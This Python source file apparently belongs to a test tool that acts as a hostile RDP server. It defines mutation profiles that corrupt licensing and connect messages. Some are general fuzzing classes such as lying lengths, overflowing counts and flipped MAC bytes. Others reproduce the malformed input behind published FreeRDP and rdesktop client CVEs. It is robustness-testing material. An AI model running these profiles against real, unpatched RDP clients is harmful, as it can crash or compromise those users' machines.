"""The hostile server's profiles: how each server licensing message is lied about.

Two families.  Structure profiles are the general classes every licensing parser has to
survive (docs/client-licensing-cves.md, "general classes"): lengths larger and smaller than
the data, counts that overflow, blob types outside MS-RDPBCGR 2.2.1.12.1.2, encrypted
payloads truncated or oversized, wrong MACs, certificates lying about their sizes, and
messages repeated, out of order or never sent.  CVE profiles send the shape of server input
that one published client bug was about (the catalogue in docs/client-licensing-cves.md,
with sources); they are named after the CVE.

A profile's ``mutate`` gets one licensing frame and the connection's seeded generator and
returns the frames to send instead (none: the message is never sent; two: it is repeated).
Everything random comes from that generator, so a profile and a seed give the same bytes.
A profile whose bug sits before licensing also has a ``connect``, which gets the MCS Connect
Response instead (`rdplic.hostile.connect`).
"""

from __future__ import annotations

import dataclasses
import random
from collections.abc import Callable

from rdplic.hostile.connect import (
    ConnectMutate,
    ber_length_lie,
    chain_certificate_lie,
    security_data_lie,
)
from rdplic.hostile.wire import (
    MSG_LICENSE_REQUEST,
    MSG_NEW_LICENSE,
    MSG_PLATFORM_CHALLENGE,
    MSG_UPGRADE_LICENSE,
    U32,
    Field,
    LicensingFrame,
    fields,
)
from rdplic.pdu.certificates import (
    ProprietaryServerCertificate,
    RsaPublicKeyBlob,
    ServerCertificate,
    encode_server_certificate,
)

__all__ = ["PROFILES", "Profile", "Session"]

# Blob types MS-RDPBCGR 2.2.1.12.1.2 defines: BB_ANY_BLOB .. BB_CLIENT_MACHINE_NAME_BLOB.
_SPEC_BLOB_TYPES = frozenset({0x00, 0x01, 0x02, 0x03, 0x04, 0x08, 0x09, 0x0D, 0x0E, 0x0F, 0x10})

_ENCRYPTED = (MSG_PLATFORM_CHALLENGE, MSG_NEW_LICENSE, MSG_UPGRADE_LICENSE)


@dataclasses.dataclass(slots=True)
class Session:
    """One connection's hostile state: its generator and what the profile remembers."""

    rng: random.Random
    held: list[bytes] = dataclasses.field(default_factory=list)
    mutations: list[str] = dataclasses.field(default_factory=list)
    """What was done, one short phrase per mutated message (for the connection's log line)."""


Mutate = Callable[[LicensingFrame, Session], list[bytes] | None]
"""The frames to send instead, or None: this message is left alone."""


@dataclasses.dataclass(frozen=True, slots=True)
class Profile:
    name: str
    family: str
    """"structure" or "cve"."""
    description: str
    mutate: Mutate
    connect: ConnectMutate | None = None
    """The lie in the MCS Connect Response (`rdplic.hostile.connect`), for the profiles of
    bugs in what a client parses before licensing."""


def _put16(message: bytes, at: int, value: int) -> bytes:
    return message[:at] + (value & 0xFFFF).to_bytes(2, "little") + message[at + 2 :]


def _put32(message: bytes, at: int, value: int) -> bytes:
    return message[:at] + U32.build(value & 0xFFFFFFFF) + message[at + 4 :]


def _fix_size(message: bytes) -> bytes:
    """wMsgSize made true again after a change of length (only the intended lie remains)."""
    return _put16(message, 2, len(message))


def _pick(session: Session, found: list[Field]) -> Field | None:
    return session.rng.choice(found) if found else None


def _by(message: bytes, kind: str, name: str = "") -> list[Field]:
    return [f for f in fields(message) if f.kind == kind and (not name or f.name == name)]


def _one(frame: LicensingFrame, session: Session, message: bytes, note: str) -> list[bytes]:
    session.mutations.append(note)
    return [frame.rebuild(message)]


# -- structure profiles ---------------------------------------------------------------------


def _size_larger(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    size = len(frame.message)
    lie = session.rng.randint(size + 1, 0xFFFF)
    return _one(frame, session, _put16(frame.message, 2, lie), f"wMsgSize {size}->{lie}")


def _size_smaller(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    size = len(frame.message)
    lie = session.rng.randint(0, size - 1)
    return _one(frame, session, _put16(frame.message, 2, lie), f"wMsgSize {size}->{lie}")


def _blob_larger(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    blob = _pick(session, _by(frame.message, "blob"))
    if blob is None:
        return None
    lie = session.rng.randint(blob.size + 1, 0xFFFF)
    message = _put16(frame.message, blob.offset + 2, lie)
    return _one(frame, session, message, f"{blob.name}.wBlobLen {blob.size}->{lie}")


def _blob_smaller(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    blob = _pick(session, [b for b in _by(frame.message, "blob") if b.size])
    if blob is None:
        return None
    lie = session.rng.randint(0, blob.size - 1)
    message = _put16(frame.message, blob.offset + 2, lie)
    return _one(frame, session, message, f"{blob.name}.wBlobLen {blob.size}->{lie}")


def _count_overflow(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    found = _by(frame.message, "count")
    if not found:
        return None
    lie = session.rng.choice(
        (0xFFFFFFFF, 0x80000000, 0x40000000, 0x10000000 + session.rng.randint(0, 0xFFFF))
    )
    message = _put32(frame.message, found[0].offset, lie)
    return _one(frame, session, message, f"ScopeCount {found[0].value}->0x{lie:x}")


def _blob_type(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    blob = _pick(session, _by(frame.message, "blob"))
    if blob is None:
        return None
    lie = session.rng.choice([t for t in range(0x11, 0x100) if t not in _SPEC_BLOB_TYPES])
    message = _put16(frame.message, blob.offset, lie)
    return _one(frame, session, message, f"{blob.name}.wBlobType 0x{blob.value:x}->0x{lie:x}")


def _encrypted_blob(message: bytes) -> Field | None:
    if message[0] not in _ENCRYPTED:
        return None
    found = _by(message, "blob")
    return found[0] if found else None


def _truncated(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    blob = _encrypted_blob(frame.message)
    if blob is None or not blob.size:
        return None
    keep = session.rng.randint(0, blob.size - 1)
    start = blob.offset + 4
    message = frame.message[:start] + frame.message[start : start + keep]
    message += frame.message[start + blob.size :]
    message = _fix_size(_put16(message, blob.offset + 2, keep))
    return _one(frame, session, message, f"{blob.name} {blob.size}->{keep} bytes")


def _oversized(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    blob = _encrypted_blob(frame.message)
    if blob is None:
        return None
    extra = session.rng.randbytes(session.rng.randint(1, 4096))
    end = blob.offset + 4 + blob.size
    message = frame.message[:end] + extra + frame.message[end:]
    message = _fix_size(_put16(message, blob.offset + 2, blob.size + len(extra)))
    return _one(frame, session, message, f"{blob.name} {blob.size}->{blob.size + len(extra)} bytes")


def _wrong_mac(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    found = _by(frame.message, "mac")
    if not found:
        return None
    at = found[0].offset + session.rng.randrange(found[0].size)
    flip = session.rng.randint(1, 0xFF)
    message = frame.message[:at] + bytes([frame.message[at] ^ flip]) + frame.message[at + 1 :]
    return _one(frame, session, message, f"MACData byte {at - found[0].offset} ^= 0x{flip:02x}")


def _certificate_lie(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """The server certificate (MS-RDPBCGR 2.2.1.4.3.1): a proprietary certificate's key and
    signature blob lengths and the RSA key's keylen/datalen (2.2.1.4.3.1.1.1), or an X.509
    chain's certificate count and first certificate length (2.2.1.4.2), lying."""
    found = _by(frame.message, "certificate")
    if not found:
        return None
    at = found[0].offset
    version = U32.parse(frame.message[at : at + 4]) & 0x7FFFFFFF
    rng = session.rng
    if version == 1:  # dwVersion, dwSigAlgId, dwKeyAlgId, wPublicKeyBlobType, wPublicKeyBlobLen
        key_len_at = at + 14
        key_len = int.from_bytes(frame.message[key_len_at : key_len_at + 2], "little")
        choices = {
            "wPublicKeyBlobLen": (key_len_at, 2),
            "keylen": (key_len_at + 2 + 4, 4),
            "datalen": (key_len_at + 2 + 12, 4),
            "wSignatureBlobLen": (key_len_at + 2 + key_len + 2, 2),
        }
    else:  # NumCertBlobs, then cbCert of the first
        choices = {"NumCertBlobs": (at + 4, 4), "cbCert[0]": (at + 8, 4)}
    name = rng.choice(sorted(choices))
    where, width = choices[name]
    if where + width > len(frame.message):
        return None
    lie = (
        rng.choice((0xFFFF, 0x8000, 0x1000))
        if width == 2
        else rng.choice((0xFFFFFFFF, 0x7FFFFFFF, 0x10000))
    )
    put = _put16 if width == 2 else _put32
    return _one(frame, session, put(frame.message, where, lie), f"certificate {name}->0x{lie:x}")


def _repeat(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    times = session.rng.randint(2, 4)
    session.mutations.append(f"message 0x{frame.msg_type:02x} sent {times} times")
    return [frame.rebuild(frame.message)] * times


def _out_of_order(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """The License Request comes again after the message that follows it."""
    if frame.msg_type == MSG_LICENSE_REQUEST:
        session.held.append(frame.rebuild(frame.message))
        return None
    if not session.held:
        return None
    session.mutations.append(f"License Request resent after message 0x{frame.msg_type:02x}")
    return [frame.rebuild(frame.message), *session.held]


def _never_sent(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    if frame.msg_type not in _ENCRYPTED:
        return None
    session.mutations.append(f"message 0x{frame.msg_type:02x} never sent")
    return []


# -- CVE profiles ----------------------------------------------------------------------------


def _only(msg_types: tuple[int, ...], mutate: Mutate) -> Mutate:
    def wrapped(frame: LicensingFrame, session: Session) -> list[bytes] | None:
        return mutate(frame, session) if frame.msg_type in msg_types else None

    return wrapped


def _cve_2014_0791(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """FreeRDP license_read_scope_list: a ScopeCount whose allocation overflows."""
    found = _by(frame.message, "count", "ScopeCount")
    if not found:
        return None
    lie = session.rng.choice((0xFFFFFFFF, 0x40000000, 0x20000001))
    return _one(
        frame, session, _put32(frame.message, found[0].offset, lie), f"ScopeCount->0x{lie:x}"
    )


def _cve_2017_2838(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """FreeRDP license_read_product_info: cbCompanyName / cbProductId past the PDU."""
    field = _pick(session, _by(frame.message, "cb"))
    if field is None:
        return None
    lie = session.rng.choice(
        (0xFFFFFFFF, 0x80000000, len(frame.message) + session.rng.randint(1, 0xFFFF))
    )
    return _one(
        frame, session, _put32(frame.message, field.offset, lie), f"{field.name}->0x{lie:x}"
    )


def _cve_2017_2839(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """FreeRDP license_read_platform_challenge_packet: the encrypted challenge's length lies."""
    blob = _encrypted_blob(frame.message)
    if blob is None:
        return None
    lie = session.rng.choice((0xFFFF, 0x8000, blob.size + session.rng.randint(1, 0x100)))
    message = _put16(frame.message, blob.offset + 2, lie)
    return _one(frame, session, message, f"{blob.name}.wBlobLen {blob.size}->{lie}")


def _cve_2020_11099(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """FreeRDP license_read_new_or_upgrade_license_packet: a New License Info shorter than
    its own length fields.  The blob is cut after encryption, so it decrypts to a short
    prefix of the real one (the MAC, computed over the whole plaintext, no longer matches)."""
    blob = _encrypted_blob(frame.message)
    if blob is None:
        return None
    keep = min(blob.size, session.rng.choice((0, 4, 8, 12, 16)))
    start = blob.offset + 4
    message = frame.message[:start] + frame.message[start : start + keep]
    message += frame.message[start + blob.size :]
    message = _fix_size(_put16(message, blob.offset + 2, keep))
    return _one(frame, session, message, f"EncryptedLicenseInfo {blob.size}->{keep} bytes")


def _cve_2020_13398(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """FreeRDP crypto_rsa_common (GHSL-2020-102): the License Request's certificate a
    proprietary one (MS-RDPBCGR 2.2.1.4.3.1.1) whose RSA modulus is shorter than 22 bytes,
    so that the client's 48-byte premaster secret no longer fits the 2 * modulus + 4 bytes
    FreeRDP allocated for it; every length true."""
    found = _by(frame.message, "blob", "ServerCertificate")
    if not found:
        return None
    blob = found[0]
    rng = session.rng
    size = rng.choice((8, 12, 16, 20))
    modulus = bytearray(rng.randbytes(size))
    modulus[0] |= 0x01  # odd, and its top bit set: a modulus of exactly 8 * size bits
    modulus[-1] |= 0x80
    key = RsaPublicKeyBlob(
        bitlen=8 * size, datalen=size - 1, pub_exp=0x10001, modulus=bytes(modulus) + bytes(8)
    )
    certificate = encode_server_certificate(
        ServerCertificate(ProprietaryServerCertificate(key, rng.randbytes(64) + bytes(8)))
    )
    start = blob.offset + 4
    message = frame.message[:start] + certificate + frame.message[start + blob.size :]
    message = _fix_size(_put16(message, blob.offset + 2, len(certificate)))
    return _one(frame, session, message, f"ServerCertificate RSA modulus->{size} bytes")


def _leave(frame: LicensingFrame, session: Session) -> list[bytes] | None:
    """The licensing PDUs of a profile whose lie is in the connection sequence."""
    return None


_STRUCTURE = (
    Profile("size-larger", "structure", "wMsgSize larger than the message", _size_larger),
    Profile("size-smaller", "structure", "wMsgSize smaller than the message", _size_smaller),
    Profile("blob-larger", "structure", "a blob's wBlobLen past its data", _blob_larger),
    Profile("blob-smaller", "structure", "a blob's wBlobLen short of its data", _blob_smaller),
    Profile("count-overflow", "structure", "ScopeCount of 2^28..2^32-1", _count_overflow),
    Profile("blob-type", "structure", "a wBlobType outside MS-RDPBCGR 2.2.1.12.1.2", _blob_type),
    Profile(
        "encrypted-truncated",
        "structure",
        "encrypted blob cut short (length kept true)",
        _truncated,
    ),
    Profile(
        "encrypted-oversized", "structure", "encrypted blob with up to 4 KiB appended", _oversized
    ),
    Profile("wrong-mac", "structure", "one byte of MACData flipped", _wrong_mac),
    Profile(
        "certificate-lie",
        "structure",
        "server certificate lying about key/signature/chain sizes",
        _certificate_lie,
    ),
    Profile("repeat", "structure", "every licensing message sent 2-4 times", _repeat),
    Profile(
        "out-of-order",
        "structure",
        "License Request sent again after the next message",
        _out_of_order,
    ),
    Profile("never-sent", "structure", "Platform Challenge / New License never sent", _never_sent),
)

_CVES = (
    Profile(
        "cve-2014-0791",
        "cve",
        "FreeRDP <= 1.0.2: huge ScopeCount",
        _only((MSG_LICENSE_REQUEST,), _cve_2014_0791),
    ),
    Profile(
        "cve-2017-2838",
        "cve",
        "FreeRDP 2.0.0-beta1: ProductInfo cb* past the PDU",
        _only((MSG_LICENSE_REQUEST,), _cve_2017_2838),
    ),
    Profile(
        "cve-2017-2839",
        "cve",
        "FreeRDP 2.0.0-beta1: Platform Challenge blob length lies",
        _only((MSG_PLATFORM_CHALLENGE,), _cve_2017_2839),
    ),
    Profile(
        "cve-2020-11099",
        "cve",
        "FreeRDP < 2.1.2: short New License Info",
        _only((MSG_NEW_LICENSE, MSG_UPGRADE_LICENSE), _cve_2020_11099),
    ),
    Profile(
        "cve-2017-2837",
        "cve",
        "FreeRDP 2.0.0-beta1: SC_SECURITY serverRandomLen + serverCertLen wrap 2^32",
        _leave,
        security_data_lie,
    ),
    Profile(
        "cve-2018-20175",
        "cve",
        "rdesktop <= 1.8.3: Connect-Response BER length of 2^31 or more",
        _leave,
        ber_length_lie,
    ),
    Profile(
        "cve-2018-20176",
        "cve",
        "rdesktop <= 1.8.3: SC_SECURITY X.509 chain, a certificate length past the data",
        _leave,
        chain_certificate_lie,
    ),
    Profile(
        "cve-2020-13398",
        "cve",
        "FreeRDP < 2.1.2: License Request certificate with an RSA modulus < 22 bytes",
        _only((MSG_LICENSE_REQUEST,), _cve_2020_13398),
    ),
)

PROFILES: dict[str, Profile] = {p.name: p for p in (*_STRUCTURE, *_CVES)}
"""Every profile by name (``rdplic serve --hostile list``)."""
